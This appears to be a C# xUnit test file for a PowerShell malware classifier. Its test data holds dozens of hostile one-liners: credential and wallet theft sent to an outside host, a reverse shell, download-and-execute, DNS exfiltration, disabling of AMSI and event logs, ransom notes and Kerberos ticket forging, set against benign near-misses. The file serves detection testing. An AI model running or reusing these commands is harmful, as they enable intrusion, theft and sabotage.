using Afterpatch.Scripts.PowerShell;
using Xunit;

namespace Afterpatch.Scripts.Tests.PowerShell;

/// <summary>Each trait once where it shows and once where an honest script comes close.</summary>
public sealed class TraitTests
{
    [Theory]
    [InlineData("class-redirected", "New-Item 'HKCU:\\Software\\Classes\\CLSID\\{0358}\\InprocServer32' -Force; Set-ItemProperty 'HKCU:\\Software\\Classes\\CLSID\\{0358}\\InprocServer32' '(default)' \"$env:APPDATA\\x.dll\"")]
    [InlineData("loaded-by-office", "Set-ItemProperty 'HKCU:\\Software\\Microsoft\\Office test\\Special\\Perf' -Name '(default)' -Value C:\\m.dll")]
    [InlineData("outlook-page", "Set-ItemProperty 'HKCU:\\Software\\Microsoft\\Office\\16.0\\Outlook\\WebView\\Inbox' -Name URL -Value 'http://203.0.113.7/h.html'")]
    [InlineData("library-loaded-by-system", "Copy-Item \"$env:TEMP\\h.dll\" C:\\Windows\\System32\\n.dll; netsh add helper C:\\Windows\\System32\\n.dll")]
    [InlineData("elevation-by-environment", "Set-ItemProperty HKCU:\\Environment -Name windir -Value 'cmd /c x & REM '; schtasks /run /tn \\Microsoft\\Windows\\DiskCleanup\\SilentCleanup /i")]
    [InlineData("web-module-from-writable-folder", "Copy-Item C:\\Windows\\Temp\\m.dll C:\\i\\m.dll; & appcmd.exe install module /name:M /image:C:\\i\\m.dll")]
    [InlineData("code-from-alternate-stream", "iex (Get-Content C:\\a.ini -Stream cfg -Raw)")]
    [InlineData("code-from-registry", "iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String((gp 'HKCU:\\Software\\A').b)))")]
    [InlineData("hidden-script-host", "Start-Process wscript.exe -ArgumentList \"$env:PUBLIC\\s\\v.js\" -WindowStyle Hidden")]
    [InlineData("task-starts-page", "$a = New-ScheduledTaskAction -Execute mshta.exe -Argument http://203.0.113.7/t.hta; Register-ScheduledTask -TaskName G -Action $a")]
    [InlineData("secret-stores-sent", "'exodus.wallet','discord\\Local Storage','FileZilla\\recentservers.xml' | % { Copy-Item \"$env:APPDATA\\$_\" $t }; curl.exe -F file=@x http://203.0.113.7/g")]
    [InlineData("browser-stores-copied", "'Login Data','Local State' | % { Copy-Item \"$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\$_\" $t }; Invoke-RestMethod http://203.0.113.7/ -Method Post -InFile $t")]
    [InlineData("screen-sent", "while($true){ $g.CopyFromScreen(0,0,0,0,$s); (New-Object Net.WebClient).UploadFile('ftp://a.example/x',$f); Start-Sleep 60 }")]
    [InlineData("wallet-in-clipboard-replaced", "while($true){ if ((Get-Clipboard) -match '^(bc1|[13])[a-zA-Z0-9]{25,39}$') { Set-Clipboard 'x' }; Start-Sleep 1 }")]
    [InlineData("wallet-in-clipboard-replaced", "$p = @{ eth='^0x[a-fA-F0-9]{40}$' }; for(;;){ $t = [Windows.Clipboard]::GetText(); foreach($k in $p.Keys){ if($t -cmatch $p[$k]){ [Windows.Clipboard]::SetText('0x00') } }; Start-Sleep -Milliseconds 350 }")]
    [InlineData("documents-sent", "Get-PSDrive -PSProvider FileSystem | % { gci $_.Root -Include *.docx,*.xlsx,*.pdf -Recurse } | Compress-Archive -DestinationPath $z; Invoke-WebRequest https://a.example/u -Method Post -InFile $z")]
    [InlineData("data-in-names", "$h=[BitConverter]::ToString([IO.File]::ReadAllBytes($f)); for($i=0;$i -lt $h.Length;$i+=50){ Resolve-DnsName ($h.Substring($i,50)+'.x.example') }")]
    [InlineData("wlan-keys-sent", "$k = netsh wlan show profile name=$n key=clear; Invoke-RestMethod https://a.example/h -Method Post -Body $k")]
    [InlineData("directory-mapped", "$s=[adsisearcher]'(&(samAccountType=805306368)(servicePrincipalName=*))'; $s.FindAll(); $s.Filter='(adminCount=1)'; $s.Filter='(userAccountControl:1.2.840.113556.1.4.803:=524288)'; $s.Filter='(objectClass=trustedDomain)'; $s.Filter='(ms-Mcs-AdmPwd=*)'; $s.Filter='(msDS-AllowedToDelegateTo=*)'")]
    [InlineData("weak-places-searched", "function Get-UnquotedService { gwmi win32_service }; function Get-Msi { 'AlwaysInstallElevated' }; function Get-Answer { 'C:\\unattend.xml' }; function Get-Logon { 'DefaultPassword' }")]
    [InlineData("password-sprayed", "foreach ($u in $users) { $d = New-Object DirectoryServices.DirectoryEntry($path, $u, $Password); 'sprayed' }")]
    [InlineData("survey-sent", "whoami /all > a; ipconfig /all >> a; nltest /domain_trusts >> a; net group \"Admins du domaine\" /domain >> a; Invoke-WebRequest http://a.example/x -Method Post -InFile a")]
    [InlineData("survey-sent", "whoami /all > a; ipconfig /all >> a; nltest /domain_trusts >> a; net group \"Domain Admins\" /domain >> a; Invoke-WebRequest http://a.example/x -Method Post -InFile a")]
    [InlineData("collector-of-directory", "param([ValidateSet('LocalAdmin','GPOLocalGroup','LoggedOn','Trusts','ObjectProps')]$CollectionMethod)")]
    [InlineData("event-log-service-stopped", "Set-ItemProperty HKLM:\\P\\ScriptBlockLogging EnableScriptBlockLogging 0; Set-Service EventLog -StartupType Disabled")]
    [InlineData("security-product-cut-off", "Get-Process MsSense | % { New-NetFirewallRule -DisplayName s -Direction Outbound -Program $_.Path -Action Block }")]
    [InlineData("amsi-switched-off", "Remove-Item 'HKLM:\\SOFTWARE\\Microsoft\\AMSI\\Providers\\*' -Recurse")]
    [InlineData("prompt-over-network", "$c = New-Object Net.Sockets.TcpClient('203.0.113.7',443); $w.Write('PS ' + (pwd).Path + '> ')")]
    [InlineData("shell-wired-to-network", "$c = New-Object Net.Sockets.TcpClient('203.0.113.7',443); $p.StartInfo.FileName='cmd.exe'; $p.StartInfo.RedirectStandardInput=$true; $p.StartInfo.UseShellExecute=$false")]
    [InlineData("program-started-on-other-machines", "Copy-Item C:\\ProgramData\\a.exe \"\\\\$t\\ADMIN$\\Temp\\a.exe\"; sc.exe \\\\$t create a binPath= C:\\Windows\\Temp\\a.exe; sc.exe \\\\$t start a; sc.exe \\\\$t delete a")]
    [InlineData("memory-of-process-written", "$d='OpenProcess VirtualAllocEx WriteProcessMemory CreateRemoteThread'; Add-Type -MemberDefinition $d -Name a")]
    [InlineData("keyboard-hooked", "Add-Type 'SetWindowsHookEx(WH_KEYBOARD_LL, p, h, 0);'")]
    [InlineData("mail-forwarded-for-all", "Get-Mailbox | ForEach-Object { Set-Mailbox $_.Alias -ForwardingSmtpAddress 'smtp:d@a.example' }; New-InboxRule -Name '..' -MoveToFolder 'RSS Feeds' -SubjectContainsWords hacked,phishing")]
    [InlineData("ransom-demanded", "Get-PSDrive | % { Set-Content (Join-Path $_.Root 'HOW_TO_DECRYPT.txt') 'Your network has been encrypted' }")]
    [InlineData("download-and-execute", "$ie = New-Object -ComObject InternetExplorer.Application; $ie.Navigate('http://a.example/p'); $c = $ie.Document.body.innerText; iex $c")]
    [InlineData("download-and-execute", "while(1){ $u = Invoke-RestMethod $api; foreach($x in $u.result){ $t = $x.message.text; if ($t -match '^/cmd (.+)$') { cmd.exe /c $Matches[1] } } }")]
    [InlineData("tickets-forged", "Start-Process .\\r.exe -ArgumentList 's4u /user:WS$ /impersonateuser:administrator /msdsspn:cifs/fs01 /ptt'")]
    [InlineData("rights-over-directory", "$acl = Get-Acl 'AD:CN=AdminSDHolder,CN=System,DC=a'; $acl.AddAccessRule($r); Set-Acl 'AD:CN=AdminSDHolder,CN=System,DC=a' $acl")]
    [InlineData("library-in-name-server", "dnscmd dc01 /config /serverlevelplugindll \\\\203.0.113.7\\s\\d.dll")]
    [InlineData("managed-passwords-sent", "([adsisearcher]'(ms-Mcs-AdmPwd=*)').FindAll() | Out-File l.csv; curl.exe -T l.csv http://203.0.113.7/")]
    [InlineData("password-manager-tapped", "[xml]$x = Get-Content \"$env:APPDATA\\KeePass\\KeePass.config.xml\"; $t = $x.CreateElement('Trigger'); $x.Save($f)")]
    [InlineData("logon-program-added", "Set-ItemProperty 'HKLM:\\S\\Winlogon' Userinit \"$u,C:\\ProgramData\\w.exe\"")]
    [InlineData("saver-from-writable-folder", "Set-ItemProperty 'HKCU:\\Control Panel\\Desktop' 'SCRNSAVE.EXE' \"$env:APPDATA\\b.scr\"")]
    [InlineData("pages-of-sites-infected", "Get-Website | % { gci $_.PhysicalPath -Include index.* -Recurse } | % { (gc $_ -Raw).Replace('</body>','<script src=https://a.example/s.js></script></body>') | Set-Content $_ }")]
    [InlineData("share-drives-commands", "while(1){ gci \\\\203.0.113.7\\in | % { $r = . ([scriptblock]::Create((Get-Content $_ -Raw))); $r | Out-File o.txt }; sleep 9 }")]
    [InlineData("secret-of-application-sent", "$s = Add-MgApplicationPassword -ApplicationId $a; irm http://203.0.113.7/s -Method Post -Body @{ s = $s.SecretText }")]
    [InlineData("disguised-code-acts", "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('TmV3LUl0ZW1Qcm9wZXJ0eSBIS0NVOlxTb2Z0d2FyZVxBIC1OYW1lIGIgLVZhbHVlIGM7IFN0YXJ0LVByb2Nlc3MgYS5leGU=')))")]
    public void A_trait_is_seen(string trait, string script)
    {
        var judgement = Deobfuscator.Judge(script);
        Assert.Contains(trait, judgement.Reasons.Select(reason => reason.Key));
        Assert.True(judgement.Malicious);
    }

    [Theory]
    [InlineData("New-Item 'HKLM:\\Software\\Classes\\CLSID\\{0358}\\InprocServer32'; Set-ItemProperty 'HKLM:\\Software\\Classes\\CLSID\\{0358}\\InprocServer32' '(default)' 'C:\\Program Files\\V\\x.dll'")]
    [InlineData("Set-ItemProperty 'HKCU:\\Software\\Microsoft\\Office\\16.0\\Excel\\Security' -Name VBAWarnings -Value 4; Copy-Item \\\\fs\\t\\Normal.dotm $dest")]
    [InlineData("netsh show helper; Get-ItemProperty HKLM:\\SYSTEM\\CurrentControlSet\\Control\\Lsa -Name 'Security Packages'")]
    [InlineData("[Environment]::SetEnvironmentVariable('JAVA_HOME', 'C:\\java', 'User'); schtasks /run /tn \\Microsoft\\Windows\\DiskCleanup\\SilentCleanup")]
    [InlineData("& appcmd.exe install module /name:M /image:'C:\\Program Files\\V\\m.dll'")]
    [InlineData("Get-Content C:\\a.exe -Stream Zone.Identifier; Unblock-File C:\\a.exe")]
    [InlineData("$v = (Get-ItemProperty HKLM:\\Software\\V).Settings; [Convert]::FromBase64String($v)")]
    [InlineData("Start-Process rundll32.exe -ArgumentList 'printui.dll,PrintUIEntry /in /n \\\\ps\\p1' -Wait")]
    [InlineData("Copy-Item \"$env:USERPROFILE\\.ssh\" D:\\Backup -Recurse; Copy-Item \"$env:USERPROFILE\\.aws\" D:\\Backup -Recurse")]
    [InlineData("Copy-Item \"$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\Bookmarks\" H:\\Backup")]
    [InlineData("$g.CopyFromScreen(0,0,0,0,$s); $bmp.Save('C:\\Docs\\step1.png')")]
    [InlineData("Get-Clipboard | ForEach-Object { $_.Trim() } | Set-Clipboard")]
    [InlineData("Get-ChildItem D:\\Share -Include *.docx,*.xlsx,*.pdf -Recurse | Compress-Archive -DestinationPath D:\\b.zip; Send-MailMessage -To a@contoso.com -Subject done -Body ok -SmtpServer s")]
    [InlineData("Resolve-DnsName contoso.com -Type TXT | ForEach-Object { $_.Strings[0].Substring(0, 6) }")]
    [InlineData("netsh wlan export profile key=clear folder=C:\\Wlan")]
    [InlineData("$s=[adsisearcher]'(servicePrincipalName=*)'; $s.FindAll() | Export-Csv spn.csv; ([adsisearcher]'(adminCount=1)').FindAll()")]
    [InlineData("if ((Get-ItemProperty HKLM:\\S\\Installer).AlwaysInstallElevated -eq 1) { 'weak' }; (Get-ItemProperty HKLM:\\S\\Winlogon).DefaultPassword")]
    [InlineData("ipconfig /all; systeminfo; netstat -ano; tasklist; Send-MailMessage -To helpdesk@contoso.com -Body $r -SmtpServer s")]
    [InlineData("Set-ItemProperty HKLM:\\P\\ScriptBlockLogging EnableScriptBlockLogging 1; Restart-Service EventLog; auditpol /set /subcategory:Logon /success:enable")]
    [InlineData("New-NetFirewallRule -DisplayName 'Block telnet' -Direction Outbound -RemotePort 23 -Action Block")]
    [InlineData("$c = New-Object Net.Sockets.TcpClient; $c.Connect('mail.contoso.com', 25); 'PS prompt: ' + (Get-Location).Path")]
    [InlineData("Copy-Item \\\\fs\\pkg\\setup.msi \"\\\\$pc\\C$\\Temp\\setup.msi\"; Invoke-Command -ComputerName $pc { msiexec /i C:\\Temp\\setup.msi /qn }")]
    [InlineData("Add-Type -MemberDefinition '[DllImport(\"kernel32.dll\")] public static extern IntPtr OpenProcess(int a, bool b, int c); [DllImport(\"kernel32.dll\")] public static extern bool CloseHandle(IntPtr h);' -Name N")]
    [InlineData("Set-Mailbox leaver -ForwardingSmtpAddress manager@contoso.com; New-InboxRule -Name 'Newsletter' -MoveToFolder News -SubjectContainsWords digest")]
    [InlineData("Set-MpPreference -DisableRealtimeMonitoring $false -PUAProtection Enabled; Add-MpPreference -ExclusionExtension 'mdf','ldf'")]
    [InlineData("$iocs = @{ Files = 'mimikatz.exe','procdump64.exe'; Words = 'Invoke-Mimi','sekurlsa::logonpasswords' }; Get-ChildItem C:\\ -Recurse | Select-String $iocs.Words")]
    [InlineData("wevtutil el | ForEach-Object { wevtutil cl $_ }; vssadmin delete shadows /all /quiet; & C:\\Windows\\System32\\Sysprep\\sysprep.exe /generalize /oobe /shutdown")]
    [InlineData("klist purge; Get-ADUser krbtgt -Properties PasswordLastSet; (Get-Acl 'AD:CN=AdminSDHolder,CN=System,DC=a').Access | Export-Csv acl.csv")]
    [InlineData("dnscmd dc01 /config /scavenginginterval 168; Get-ADComputer pc1 -Properties ms-Mcs-AdmPwd | Select-Object -Expand ms-Mcs-AdmPwd")]
    [InlineData("Set-ItemProperty 'HKLM:\\S\\Winlogon' Shell 'explorer.exe'; Set-ItemProperty 'HKCU:\\Control Panel\\Desktop' 'SCRNSAVE.EXE' 'C:\\Windows\\System32\\scrnsave.scr'")]
    [InlineData("Get-Content \\\\10.0.0.5\\cfg\\list.txt | ForEach-Object { Restart-Service $_ }; $s = Add-MgApplicationPassword -ApplicationId $a; Set-AzKeyVaultSecret -VaultName v -Name n -SecretValue $s.SecretText")]
    [InlineData("$rules = @{ Amsi = 'AmsiScanBuffer|amsiInitFailed'; Inject = 'VirtualAlloc|CreateRemoteThread|WriteProcessMemory' }; gci -Recurse *.ps1 | Select-String -Pattern $rules.Values")]
    [InlineData("$t = (Invoke-WebRequest https://git.contoso.com/lib.ps1).Content; $h = [BitConverter]::ToString([Security.Cryptography.SHA256]::Create().ComputeHash([Text.Encoding]::UTF8.GetBytes($t))); if ($h -ne $pin) { return }; . ([scriptblock]::Create($t))")]
    [InlineData("$u = Invoke-RestMethod https://api.example/v1/hosts; foreach ($h in $u.hosts) { cmd.exe /c ping -n 1 $h.name }")]
    [InlineData("iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('V3JpdGUtSG9zdCAnaGVsbG8n')))")]
    public void An_honest_script_that_comes_close_is_not_called_malicious(string script) => Assert.False(Deobfuscator.Judge(script).Malicious);

    /// <summary>Half of what makes a script malicious, in whatever language Windows speaks.</summary>
    [Theory]
    [InlineData("account-made-administrator", "net user wartung Sommer#2021 /add; net localgroup Administratoren wartung /add")]
    [InlineData("account-made-administrator", "net user support P4ss /add & net localgroup Администраторы support /add")]
    [InlineData("account-with-password-made-administrator", "net user support P4ss /add; net localgroup Administrateurs support /add")]
    [InlineData("account-made-domain-administrator", "net user svc P4ss /add /domain; net group \"Domänen-Admins\" svc /add /domain")]
    public void Groups_are_known_in_the_languages_of_windows(string trait, string script)
    {
        Assert.Contains(trait, Deobfuscator.Judge(script).Reasons.Select(reason => reason.Key));
        Assert.DoesNotContain(trait, Deobfuscator.Judge(script.Replace("Admin", "Benutz", StringComparison.Ordinal).Replace("Админ", "Польз", StringComparison.Ordinal)).Reasons.Select(reason => reason.Key));
    }

    [Theory]
    [InlineData("$head = Invoke-Expression \"git rev-parse --verify HEAD\"\nWrite-Host \"At $head, building the service and its tests\"\nInvoke-Build -Configuration Release")]
    [InlineData("powershell -ExecutionPolicy Bypass -File .\\build.ps1; powershell -Command \"Get-Service | Out-File C:\\s.txt\"; Write-Host 'Both are done, see the folder of the results'")]
    [InlineData("Write-Verbose \"File exists, parse `key = value` lines\"; (Get-ItemProperty $k).\"OptIn\"; foreach ($a in ${AsJob}) { ${pod_cIDR} }")]
    [InlineData("$Lookup = $ExecutionContext.InvokeCommand.GetCommand('Get-Command', 'Cmdlet'); $Safe = @{ 'Get-Item' = & $Lookup -Name Get-Item }; & $Safe['Get-Item'] C:\\")]
    [InlineData("@echo off\r\nset DIR=%~dp0\r\nset EXE=java.exe\r\nif exist \"%EXE%\" goto run\r\ncall .\\env.bat\r\nfor %%f in (*.html) do tidy.exe %%f\r\n:run\r\n\"%DIR%bin\\%EXE%\" -cp \"%DIR%lib\\a.jar\" %*\r\necho v%MAJOR%.%MINOR% of %date:~-4%\r\n")]
    public void Style_stays_as_it_is(string script) => Assert.Equal(script, Deobfuscator.Judge(script).Text);

    /// <summary>A loop without an end that knows nothing of what it reads is looked at once.</summary>
    [Fact]
    public void A_loop_that_waits_for_the_world_is_not_spun() =>
        Assert.Empty(Deobfuscator.Judge("function Get-It($Urls) { while ($true) { foreach ($url in $Urls) { if ($url -match 'a') { Invoke-WebRequest $url } else { return 1 } } } }").Bounds);
}
